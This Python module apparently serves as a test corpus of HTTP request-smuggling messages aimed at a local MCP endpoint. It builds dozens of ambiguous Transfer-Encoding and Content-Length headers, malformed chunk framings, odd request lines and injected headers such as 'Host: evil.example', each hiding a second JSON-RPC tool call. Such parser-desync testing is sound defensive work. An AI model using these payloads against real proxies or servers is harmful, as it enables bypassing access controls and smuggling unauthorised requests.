"""Ambiguous HTTP requests: two programs that read one of them may disagree about where it ends.

Each is bytes with a second request, ``hidden``, in a place where one reader sees a body and another a request. They are
built of the ways in which such requests were smuggled past proxies before.
"""

from typing import Dict, Iterator, List, Tuple

__all__ = ["MESSAGES", "plain"]

#: What stands for the hidden request's key in a message.
KEY = b"KEY-OF-THE-HIDDEN-REQUEST"


def body(key: bytes) -> bytes:
    """Return a call as JSON; the key is what the call's effect is known by."""
    return (b'{"jsonrpc":"2.0","id":1,"method":"tools/call","params":{"name":"act","arguments":{"key":"' + key + b'"}}}')


def plain(key: str) -> bytes:
    """Return a request that is read in one way only."""
    text = body(key.encode())
    return HEAD + b"Connection: close\r\nContent-Length: %d\r\n\r\n" % len(text) + text


HEAD = (b"POST /mcp HTTP/1.1\r\nHost: localhost\r\nContent-Type: application/json\r\n"
        b"Accept: application/json, text/event-stream\r\n")
CALL = body(b"outer")
HIDDEN = HEAD + b"Content-Length: %d\r\n\r\n" % len(body(KEY)) + body(KEY)
CHUNKED = b"%x\r\n%b\r\n0\r\n\r\n" % (len(CALL), CALL)

#: Ways to write Transfer-Encoding, each of which some program takes for chunked, and some for nothing.
ENCODINGS = [
    b"Transfer-Encoding: chunked", b"Transfer-Encoding:chunked", b"transfer-encoding: CHUNKED", b"Transfer-Encoding : chunked",
    b"Transfer-Encoding\t: chunked", b" Transfer-Encoding: chunked", b"\tTransfer-Encoding: chunked",
    b"Transfer-Encoding:\tchunked", b"Transfer-Encoding: \x0bchunked", b"Transfer-Encoding: chunked\x00",
    b"Transfer-Encoding: \x00chunked", b"Transfer-Encoding: chunked ", b"Transfer-Encoding: \"chunked\"",
    b"Transfer-Encoding: 'chunked'", b"Transfer-Encoding: xchunked", b"Transfer-Encoding: chunkedx",
    b"Transfer-Encoding: chunked;q=1", b"Transfer-Encoding: chunked,", b"Transfer-Encoding: ,chunked",
    b"Transfer-Encoding: chunked, identity", b"Transfer-Encoding: identity, chunked", b"Transfer-Encoding: chunked, chunked",
    b"Transfer-Encoding: gzip, chunked", b"Transfer-Encoding: identity\r\nTransfer-Encoding: chunked",
    b"Transfer-Encoding: chunked\r\nTransfer-Encoding: identity", b"Transfer-Encoding: chunked\r\nTransfer-Encoding: chunked",
    b"Transfer-Encoding:\r\n chunked", b"Transfer-Encoding: chunked\r\n x", b"Transfer-Encoding:\n chunked",
    b"X: x\nTransfer-Encoding: chunked", b"X: x\rTransfer-Encoding: chunked", b"Transfer_Encoding: chunked",
    b"Transfer-Encoding: chun\xc4\xb1ked", b"Transfer-Encoding: chunked\x0c", b"Transfer\xadEncoding: chunked",
    b"Content-Encoding: chunked", b"TE: chunked", b"Connection: Transfer-Encoding\r\nTransfer-Encoding: chunked",
]
#: Ways to write a length of which some program reads *a*, and some *b* or nothing.
LENGTHS = [
    b"Content-Length: %(a)d\r\nContent-Length: %(b)d", b"Content-Length: %(b)d\r\nContent-Length: %(a)d",
    b"Content-Length: %(a)d, %(b)d", b"Content-Length: %(b)d, %(a)d", b"Content-Length: %(a)d, %(a)d",
    b"Content-Length: +%(a)d", b"Content-Length: -%(a)d", b"Content-Length: 0%(a)d", b"Content-Length: 0x%(a)x",
    b"Content-Length: %(a)d\x00", b"Content-Length: %(a)d\x0b", b"Content-Length: %(a)d;x", b"Content-Length: %(a)d.0",
    b"Content-Length: %(a)de0", b"Content-Length: %(a)d %(b)d", b"Content-Length: \"%(a)d\"", b"Content-Length : %(a)d",
    b"Content-Length\t: %(a)d", b" Content-Length: %(a)d", b"Content-Length:\r\n %(a)d", b"Content-Length: %(a)d\r\n %(b)d",
    b"X: x\nContent-Length: %(a)d", b"X: x\rContent-Length: %(a)d", b"Content_Length: %(a)d",
    b"Content-Length: 18446744073709551616%(a)d", b"Content-Length: \xef\xbc\x91%(a)d", b"Content-Length: 1_%(a)d",
    b"Connection: Content-Length\r\nContent-Length: %(a)d", b"Content-Length:",
]
#: Chunked bodies whose pieces can be read in two ways; SIZE is the size of the call in hexadecimal digits.
CHUNKS = [
    b"SIZE;a=b\r\nCALL\r\n0\r\n\r\n", b"SIZE ;a\r\nCALL\r\n0\r\n\r\n", b"SIZE;a=\"\r\nHIDDEN\"\r\nCALL\r\n0\r\n\r\n",
    b"SIZE;\nCALL\r\n0\r\n\r\n", b"SIZE;a\nCALL\r\n0\r\n\r\n", b"SIZE;a\rb\r\nCALL\r\n0\r\n\r\n", b"SIZE\nCALL\r\n0\r\n\r\n",
    b"SIZE\r\nCALL\n0\r\n\r\n", b"SIZE\r\nCALL\r\n0\n\n", b"SIZE\r\nCALL\r\n0\n\r\n", b"SIZE\rCALL\r\n0\r\n\r\n",
    b"SIZE\r\nCALL\r0\r\n\r\n", b"0xSIZE\r\nCALL\r\n0\r\n\r\n", b"+SIZE\r\nCALL\r\n0\r\n\r\n", b"-SIZE\r\nCALL\r\n0\r\n\r\n",
    b" SIZE\r\nCALL\r\n0\r\n\r\n", b"SIZE \r\nCALL\r\n0\r\n\r\n", b"\tSIZE\r\nCALL\r\n0\r\n\r\n",
    b"000000000000000000SIZE\r\nCALL\r\n0\r\n\r\n", b"10000000000000000SIZE\r\nCALL\r\n0\r\n\r\n",
    b"SIZE\x00\r\nCALL\r\n0\r\n\r\n", b"SIZEg\r\nCALL\r\n0\r\n\r\n", b"0_SIZE\r\nCALL\r\n0\r\n\r\n",
    b"\r\nSIZE\r\nCALL\r\n0\r\n\r\n", b"SIZE\r\nCALLxx\r\n0\r\n\r\n", b"SIZE\r\nCALLxx0\r\n\r\n", b"SIZE\r\nCALL0\r\n\r\n",
    b"SIZE\r\nCALL\r\n00\r\n\r\n", b"SIZE\r\nCALL\r\n0;a\r\n\r\n", b"SIZE\r\nCALL\r\n0;a\n\r\n",
    b"SIZE\r\nCALL\r\n0\r\nContent-Length: 5\r\n\r\n", b"SIZE\r\nCALL\r\n0\r\nTransfer-Encoding: chunked\r\n\r\n",
    b"SIZE\r\nCALL\r\n0\r\nno colon\r\n\r\n", b"SIZE\r\nCALL\r\n0\r\nX: y\n\r\n", b"SIZE\r\nCALL\r\n0\r\n folded\r\n\r\n",
    b"SIZE\r\nCALL\r\n\r\n", b"SIZE\r\nCALL\r\n", b"0\r\n\r\n", b"\r\n", b"SIZE\r\nCALL\r\n0\r\n",
]
#: Request lines that can be read in two ways.
LINES = [
    b"POST http://localhost/mcp HTTP/1.1", b"POST http://evil.example/mcp HTTP/1.1", b"POST //mcp HTTP/1.1",
    b"POST  /mcp HTTP/1.1", b"POST\t/mcp HTTP/1.1", b"POST /mcp\tHTTP/1.1", b"POST /mcp HTTP/1.1 ",
    b"POST /mcp HTTP/1.1 HTTP/1.0", b"POST /mcp HTTP/1.0", b"POST /mcp HTTP/1.2", b"POST /mcp HTTP/2.0",
    b"POST /mcp HTTP/0.9", b"POST /mcp", b"POST /mcp http/1.1", b"post /mcp HTTP/1.1", b"GET /mcp HTTP/1.1",
    b"HEAD /mcp HTTP/1.1", b"OPTIONS * HTTP/1.1", b"CONNECT localhost:80 HTTP/1.1", b"TRACE /mcp HTTP/1.1",
    b"DELETE /mcp HTTP/1.1", b"\r\nPOST /mcp HTTP/1.1", b"\nPOST /mcp HTTP/1.1", b" POST /mcp HTTP/1.1",
    b"POST /mcp#x HTTP/1.1", b"POST /mcp\x00 HTTP/1.1", b"POST /mcp HTTP/1.1\x00", b"POST /mcp HTTP/01.1",
    b"POST /mcp HTTP/1.1x", b"POST /m\rcp HTTP/1.1",
]
#: Header lines that change what stands around them.
HEADERS = [
    b"Host: evil.example", b"Host: localhost, evil.example", b"no colon", b": no name", b"A B: c", b"X: a\rb", b"X: a\x00b",
    b"X: y\nHost: evil.example", b"X: y\r\n folded", b"Expect: 100-continue", b"Expect: 100-continue, x", b"Upgrade: h2c",
    b"Connection: Upgrade, HTTP2-Settings\r\nUpgrade: h2c\r\nHTTP2-Settings: AAAA", b"Connection: close", b"Connection: host",
    b"Connection: keep-alive, close", b"Keep-Alive: timeout=99", b"Trailer: Content-Length", b"X-Forwarded-Host: evil.example",
    b"Content-Type: a\r\nContent-Type: b", b"\xffX: y", b"X\xff: y", b"Content-Length: 0", b"Proxy-Connection: keep-alive",
]


def _messages() -> Iterator[Tuple[str, bytes]]:
    longer = len(CHUNKED) + len(HIDDEN)
    for number, line in enumerate(ENCODINGS):
        # A reader of lengths sees one request and a reader of chunks two, and the other way round.
        yield f"encoding {number} in front of a long length", (
            HEAD + line + b"\r\nContent-Length: %d\r\n\r\n" % longer + CHUNKED + HIDDEN)
        size = b"%x\r\n" % (len(CALL) + len(HIDDEN))
        yield f"encoding {number} behind a short length", (
            HEAD + b"Content-Length: %d\r\n" % len(size) + line + b"\r\n\r\n" + size + CALL + HIDDEN + b"\r\n0\r\n\r\n")
        yield f"encoding {number} in HTTP/1.0", (HEAD.replace(b"HTTP/1.1", b"HTTP/1.0") + b"Connection: keep-alive\r\n" + line
                                                + b"\r\nContent-Length: %d\r\n\r\n" % longer + CHUNKED + HIDDEN)
    for number, line in enumerate(LENGTHS):
        lengths = {b"a": len(CALL), b"b": len(CALL) + len(HIDDEN)}
        yield f"length {number}", HEAD + line % lengths + b"\r\n\r\n" + CALL + HIDDEN
        swapped = {b"a": lengths[b"b"], b"b": lengths[b"a"]}
        yield f"length {number}, the longer one first", HEAD + line % swapped + b"\r\n\r\n" + CALL + HIDDEN
    for number, text in enumerate(CHUNKS):
        filled = text.replace(b"SIZE", b"%x" % len(CALL)).replace(b"CALL", CALL).replace(b"HIDDEN", HIDDEN)
        yield f"chunks {number}", HEAD + b"Transfer-Encoding: chunked\r\n\r\n" + filled + HIDDEN
    plain_head = HEAD.partition(b"\r\n")[2] + b"Content-Length: %d\r\n" % len(CALL)
    for number, line in enumerate(LINES):
        yield f"request line {number}", line + b"\r\n" + plain_head + b"\r\n" + CALL + HIDDEN
    for number, line in enumerate(HEADERS):
        yield f"header {number}", HEAD + line + b"\r\nContent-Length: %d\r\n\r\n" % len(CALL) + CALL + HIDDEN
    whole = HEAD + b"Content-Length: %d\r\n\r\n" % len(CALL) + CALL
    yield "three requests at once", whole + whole + HIDDEN
    yield "lines that end with LF", whole.replace(b"\r\n", b"\n") + HIDDEN
    yield "a head that ends with LF", whole.replace(b"\r\n\r\n", b"\r\n\n") + HIDDEN
    yield "a head that ends with LF LF", whole.replace(b"\r\n\r\n", b"\n\n") + HIDDEN
    yield "no length", HEAD + b"\r\n" + CALL + HIDDEN
    yield "no host", whole.replace(b"Host: localhost\r\n", b"") + HIDDEN


#: The messages by name; the hidden request has the key of :data:`KEY`.
MESSAGES: Dict[str, bytes] = dict(_messages())
NAMES: List[str] = list(MESSAGES)
